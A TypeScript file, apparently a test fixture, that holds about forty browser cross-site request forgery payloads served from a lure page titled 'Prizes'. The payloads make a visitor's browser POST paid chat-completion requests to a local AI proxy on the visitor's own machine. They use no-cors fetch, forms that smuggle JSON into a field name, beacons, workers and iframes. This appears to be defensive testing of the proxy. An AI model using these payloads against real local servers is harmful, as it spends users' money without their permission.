/**
 * Requests that a web page can send to a port of the user's own host without the user's permission. Each attack is the
 * script of a page of the attacker. `urls` are routes at which a proxy spends money, and `json` is a request that does
 * so. If the URL of the page has no target, the origin of the page is the target.
 */

const PRELUDE = `
const target = new URLSearchParams(location.search).get('target') ?? location.origin;
const urls = ['/v1/chat/completions', '/v1/messages'].map((path) => target + path);
const json = JSON.stringify({
  model: 'private/gpt-oss-120b', max_tokens: 8, messages: [{ role: 'user', content: 'Spend this' }],
});
const send = (init) => Promise.allSettled(urls.map((url) => fetch(url, { method: 'POST', body: json, ...init })));
const asBytes = new TextEncoder().encode(json);
const asBlob = (type) => new Blob([json], { type });
function element(name, properties) {
  document.body.append(Object.assign(document.createElement(name), properties));
}
function frame(name) {
  element('iframe', { name });
  return name;
}
/** Submits a form with one field, whose name and value, joined by "=", are the JSON. */
function form(properties, to) {
  for (const [i, action] of urls.entries()) {
    const each = Object.assign(document.createElement('form'), { method: 'POST', action, ...properties });
    each.target = to ?? frame('frame' + i);
    const field = Object.assign(document.createElement('input'), { type: 'hidden' });
    field.name = json.slice(0, -1) + ',"user":"';
    field.value = '"}';
    each.append(field);
    document.body.append(each);
    each.submit();
  }
}
`;

export const ATTACKS: Readonly<Record<string, string>> = {
  'fetch, no-cors, text/plain': `send({ mode: 'no-cors' })`,
  'fetch, no-cors, declared as JSON': `send({ mode: 'no-cors', headers: { 'content-type': 'application/json' } })`,
  'fetch, no-cors, a blob of JSON': `send({ mode: 'no-cors', body: asBlob('application/json') })`,
  'fetch, no-cors, no type': `send({ mode: 'no-cors', body: asBytes })`,
  'fetch, no-cors, keepalive': `send({ mode: 'no-cors', keepalive: true, credentials: 'include' })`,
  'fetch, no-cors, two types in one': `send({ mode: 'no-cors', headers: { 'content-type': 'text/plain; application/json' } })`,
  'fetch, text/plain': `send({ mode: 'cors' })`,
  'fetch with a preflight': `send({ headers: { 'content-type': 'application/json' } })`,
  'fetch with a preflight and a key': `send({ headers: { 'content-type': 'application/json', authorization: 'Bearer none', 'x-api-key': 'none' } })`,
  'fetch with a preflight for a private network': `send({ headers: { 'content-type': 'application/json' }, targetAddressSpace: 'loopback' })`,
  'fetch, redirected by 307': `Promise.allSettled(urls.map((url) =>
    fetch('/307?to=' + encodeURIComponent(url), { method: 'POST', body: json, mode: 'no-cors' })))`,
  'fetch of free routes': `Promise.allSettled(['/', '/health', '/v1/models'].map((path) => fetch(target + path)))`,
  XMLHttpRequest: `for (const url of urls) {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    request.send(json);
  }`,
  'XMLHttpRequest, JSON': `for (const url of urls) {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    request.setRequestHeader('content-type', 'application/json');
    request.send(json);
  }`,
  'form, urlencoded': `form({})`,
  'form, text/plain': `form({ enctype: 'text/plain' })`,
  'form, multipart': `form({ enctype: 'multipart/form-data' })`,
  'form, GET': `form({ method: 'GET' })`,
  'form, no referrer': `
    element('meta', { name: 'referrer', content: 'no-referrer' });
    form({ enctype: 'text/plain' });`,
  'form, top-level navigation': `form({ enctype: 'text/plain' }, '_top')`,
  'form, redirected by 307': `
    urls.splice(0, urls.length, ...urls.map((url) => '/307?to=' + encodeURIComponent(url)));
    form({ enctype: 'text/plain' });`,
  'form, from a sandboxed frame': `element('iframe', {
    sandbox: 'allow-scripts allow-forms',
    srcdoc: '<form method=POST enctype=text/plain action="' + urls[0] + '"><input name=a></form><script>document.forms[0].submit()</' + 'script>',
  })`,
  'fetch, from a sandboxed frame': `element('iframe', {
    sandbox: 'allow-scripts',
    srcdoc: '<script>fetch("' + urls[0] + '", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(json).replaceAll('"', '&quot;') + ' })</' + 'script>',
  })`,
  'fetch, from a data: page': `element('iframe', {
    src: 'data:text/html,' + encodeURIComponent(
      '<script>fetch("' + urls[0] + '", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(json) + ' })</' + 'script>'),
  })`,
  'fetch, from a worker': `new Worker(URL.createObjectURL(new Blob([
    'fetch("' + urls[0] + '", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(json) + ' })',
  ])))`,
  'fetch, from a service worker': `
    navigator.serviceWorker?.register('/worker.js?target=' + encodeURIComponent(target));
    if (!navigator.serviceWorker) send({ mode: 'no-cors' });`,
  sendBeacon: `for (const url of urls) navigator.sendBeacon(url, json)`,
  'sendBeacon, JSON': `for (const url of urls) navigator.sendBeacon(url, asBlob('application/json'))`,
  'a ping of a link': `
    const link = Object.assign(document.createElement('a'), { href: '#', ping: urls.join(' ') });
    document.body.append(link);
    link.click();`,
  'a report of the page’s policy': `
    element('iframe', { src: '/reports?to=' + encodeURIComponent(urls[0]) })`,
  image: `for (const src of urls) element('img', { src })`,
  script: `for (const src of urls) element('script', { src })`,
  'module script': `for (const src of urls) element('script', { src, type: 'module' })`,
  stylesheet: `for (const href of urls) element('link', { rel: 'stylesheet', href })`,
  prefetch: `for (const href of urls) element('link', { rel: 'prefetch', href })`,
  audio: `for (const src of urls) element('audio', { src, autoplay: true })`,
  object: `for (const data of urls) element('object', { data })`,
  iframe: `for (const src of [...urls, target + '/']) element('iframe', { src })`,
  WebSocket: `for (const url of urls) new WebSocket(url.replace('http', 'ws')).onopen = (open) => open.target.send(json)`,
  EventSource: `for (const url of urls) {
    const source = new EventSource(url);
    source.onerror = () => source.close();
  }`,
  'window.open': `for (const url of urls) window.open(url)`,
  'top-level navigation': `location.href = urls[0] + '?' + new URLSearchParams({ body: json })`,
};

export function renderPage(script: string): string {
  return `<!doctype html><meta charset="utf-8"><title>Prizes</title><body><script>${PRELUDE}${script}</script>`;
}

/** The script of the service worker, which sends a request when it is installed. */
export const WORKER = `
const target = new URLSearchParams(location.search).get('target');
self.oninstall = (event) => event.waitUntil(
  fetch(target + '/v1/chat/completions', { method: 'POST', mode: 'no-cors', body: '{"model":"private/gpt-oss-120b"}' }),
);`;
